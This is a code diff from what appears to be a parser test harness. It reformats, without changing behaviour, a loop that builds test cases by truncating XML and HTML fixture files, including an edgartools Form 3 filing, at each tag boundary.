   // ---- truncation at tag boundaries --------------------------------------------------------------------------------
-  const everyBoundary = o.ci ? [xmlPath, subPath] : [xmlPath, subPath, htmlPath, find('edgartools__form3.nosecurities.xml', textFiles)];
+  const everyBoundary = o.ci
+    ? [xmlPath, subPath]
+    : [xmlPath, subPath, htmlPath, find('edgartools__form3.nosecurities.xml', textFiles)];
   for (const f of everyBoundary) {
     const n = tagBoundaries(latin1(read(f))).length;
     for (let k = 0; k < n; k++)
-      add({ name: `truncate-all#${k}:${short(f)}`, build: () => read(f).subarray(0, tagBoundaries(latin1(read(f)))[k]) }, 'truncate');
+      add(
+        { name: `truncate-all#${k}:${short(f)}`, build: () => read(f).subarray(0, tagBoundaries(latin1(read(f)))[k]) },
+        'truncate',
+      );
   }
   const perFile = o.ci ? 1 : 4;
   for (const f of textFiles) {
